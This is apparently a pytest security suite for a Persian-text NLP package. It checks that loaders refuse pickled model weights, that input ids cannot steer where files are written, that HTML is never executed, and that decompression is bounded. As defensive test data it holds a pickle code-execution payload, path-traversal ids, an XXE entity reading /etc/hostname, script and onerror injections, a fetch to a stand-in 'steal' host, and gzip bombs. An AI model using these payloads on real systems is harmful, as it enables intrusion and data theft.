"""Security rules, one test each: model directories load only spaCy's format and safetensors (never
pickle); ids from inputs never steer where files are written; HTML is parsed, never executed (no
scripts, no external entities); compressed inputs are read with a bound on their expanded size."""
import gzip
import io
import json
import os
import pickle
import shutil
from pathlib import Path

import pytest

from welfare_nlp.ner import component as ner
from welfare_nlp.errors import UnsafeModel
from welfare_nlp.batch.readers import InputDoc, prepare, read_inputs


class _Payload:
    """Unpickling this writes a file: the proof that a pickle was loaded."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (Path.write_text, (self.marker, "pwned"))


def _pickle_file(path: Path, marker: Path) -> None:
    path.write_bytes(pickle.dumps(_Payload(marker)))


@pytest.mark.integration
def test_hf_model_directory_with_only_pickle_weights_is_refused(tmp_path):
    model, marker = tmp_path / "hf", tmp_path / "PWNED"
    model.mkdir()
    (model / "config.json").write_text(json.dumps({"model_type": "bert", "id2label": {"0": "O"}}))
    _pickle_file(model / "pytorch_model.bin", marker)
    ner.get_model.cache_clear()
    with pytest.raises(UnsafeModel) as err:
        ner.get_model(str(model))
    assert err.value.code == "E009" and "safetensors" in err.value.message
    assert not marker.exists()


@pytest.fixture
def model_copy(tmp_path) -> Path:
    """A copy of the shipped NER model directory, to plant a pickle in."""
    if not ner.available():
        pytest.skip("models/ner is not present")
    model = tmp_path / "spacy_model"
    shutil.copytree(ner.model_path(), model)
    return model


@pytest.mark.integration
def test_spacy_model_directory_with_a_pickle_is_refused_before_loading(model_copy, tmp_path):
    model, marker = model_copy, tmp_path / "PWNED"
    _pickle_file(model / "welfare_tagger" / "extra.pkl", marker)
    with pytest.raises(UnsafeModel):
        ner.SpacyNER(model)
    assert not marker.exists()


def test_topic_model_with_pickled_arrays_is_refused(tmp_path):
    import numpy as np

    from welfare_nlp.extractors import topic

    model, marker = tmp_path / "topic", tmp_path / "PWNED"
    model.mkdir()
    shipped = topic.model_path()
    if not (shipped / "config.json").exists():
        pytest.skip("models/topic is not present")
    (model / "config.json").write_text((shipped / "config.json").read_text(encoding="utf-8"), encoding="utf-8")
    evil = np.empty(1, dtype=object)
    evil[0] = _Payload(marker)
    np.savez(model / "model.npz", coarse_coef=evil, coarse_intercept=evil, social_coef=evil, social_intercept=evil)
    with pytest.raises(UnsafeModel):
        topic.TopicModel(model)
    assert not marker.exists()


@pytest.mark.integration
@pytest.mark.parametrize("fmt,suffix", [("jsonl", ".jsonl"), ("csv", ""), ("parquet", "")])
def test_ids_never_steer_where_files_are_written(tmp_path, fmt, suffix):
    from welfare_nlp.batch.runner import run

    work = tmp_path / "work"
    work.mkdir()
    ids = ["../../escape", "/tmp/welfare_abs_escape", "a/../../b", "..\\..\\win", "nul\x00byte", "CON", "~/home"]
    src = work / "in.jsonl"
    src.write_text("".join(json.dumps({"id": i, "text": "استاندار یزد محمد میرمحمدی گفت ۲۰۰ نفر"}) + "\n"
                           for i in ids), encoding="utf-8")
    out = work / f"out{suffix}"
    cwd = os.getcwd()
    os.chdir(work)
    try:
        summary = run([str(src)], str(out), fmt=fmt, progress=False, nlp=None)
    finally:
        os.chdir(cwd)
    assert summary.documents == len(ids) and not summary.errors
    written = {p.relative_to(tmp_path) for p in tmp_path.rglob("*") if p.is_file()}
    assert all(str(p).startswith("work/out") or p == Path("work/in.jsonl") for p in written), written
    assert not Path("/tmp/welfare_abs_escape").exists()
    if fmt == "jsonl":
        got = [json.loads(line)["id"] for line in out.read_text(encoding="utf-8").splitlines()]
        assert got == ids  # kept verbatim, only as data


def test_html_is_parsed_never_executed():
    secret = Path("/etc/hostname")
    html = ("<!DOCTYPE html [<!ENTITY xxe SYSTEM \"file:///etc/hostname\">]>"
            "<html><head><title>خبر</title><script>document.write('INJECTED-SCRIPT')</script>"
            "<style>body{}</style></head><body onload=\"alert('INJECTED-ONLOAD')\">"
            "<article><p>استاندار یزد محمد میرمحمدی گفت: ۲۰۰ نفر در این طرح شرکت کردند و کار آن ادامه دارد.</p>"
            "<p>&xxe;</p><img src=x onerror=\"alert('INJECTED-IMG')\">"
            "<iframe src=\"file:///etc/hostname\"></iframe>"
            "<p>این طرح در همه شهرستان‌های استان یزد اجرا می‌شود و تا پایان سال ادامه خواهد داشت.</p></article>"
            "<script>fetch('http://example.invalid/steal')</script></body></html>")
    doc = prepare(InputDoc("page", None, raw=html.encode("utf-8"), kind="html"))
    assert doc.error is None and "میرمحمدی" in doc.text
    assert "INJECTED" not in doc.text and "fetch(" not in doc.text
    if secret.exists() and secret.read_text().strip():
        assert secret.read_text().strip() not in doc.text


def _bomb(path: Path, first: bytes, zeros: int) -> None:
    with gzip.open(path, "wb", compresslevel=1) as fh:
        fh.write(first)
        chunk = b"0" * (1 << 20)
        for _ in range(zeros // len(chunk)):
            fh.write(chunk)


def test_compressed_input_expansion_is_bounded(tmp_path):
    import tracemalloc

    path = tmp_path / "bomb.jsonl.gz"
    _bomb(path, json.dumps({"id": "ok", "text": "۲۰۰ نفر"}).encode() + b"\n", 256 << 20)
    assert path.stat().st_size < 2 << 20
    tracemalloc.start()
    docs = list(read_inputs([str(path)], max_bytes=1 << 20, max_expansion=20))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert docs[0].id == "ok" and docs[0].error is None
    codes = [d.error.code for d in docs[1:]]
    assert codes[-1] == "E015" and set(codes) <= {"E003", "E015"}  # the bound on the whole file stops it
    assert peak < 32 << 20


def test_compressed_csv_is_bounded_too(tmp_path):
    path = tmp_path / "bomb.csv.gz"
    _bomb(path, b"id,text\na,\"", 64 << 20)
    docs = list(read_inputs([str(path)], max_bytes=1 << 20, max_expansion=10))
    assert docs and all(d.error is not None for d in docs)
    assert docs[-1].error.code in ("E015", "E012")


def test_archive_record_bodies_are_bounded(tmp_path):
    pytest.importorskip("warcio")
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    path = tmp_path / "crawl.warc.gz"
    big = "<html><body><p>" + "کار " * 300_000 + "</p></body></html>"
    with open(path, "wb") as fh:
        writer = WARCWriter(fh, gzip=True)
        for uri, body in (("http://x/a", big), ("http://x/b", "<html><body><p>۲۰۰ نفر</p></body></html>")):
            headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.0")
            writer.write_record(writer.create_warc_record(uri, "response", payload=io.BytesIO(body.encode()),
                                                          http_headers=headers))
    docs = list(read_inputs([str(path)], max_bytes=100_000, prepare=False))
    assert [d.id for d in docs] == ["http://x/a", "http://x/b"]
    assert docs[0].error is not None and docs[0].error.code == "E003"
    assert docs[1].error is None


def test_directory_symlink_loops_are_read_once(tmp_path):
    root = tmp_path / "archive"
    (root / "sub").mkdir(parents=True)
    (root / "sub" / "a.txt").write_text("۲۰۰ نفر", encoding="utf-8")
    os.symlink(root, root / "sub" / "loop")
    docs = list(read_inputs([str(root)], prepare=False, content=False))
    assert [d.id for d in docs] == ["sub/a"]


@pytest.mark.integration
def test_a_pickle_under_an_innocent_name_is_refused_too(model_copy, tmp_path):
    model, marker = model_copy, tmp_path / "PWNED"
    _pickle_file(model / "welfare_tagger" / "tagger.npz", marker)  # the weights file replaced by a pickle
    with pytest.raises(UnsafeModel):
        ner.SpacyNER(model)
    assert not marker.exists()
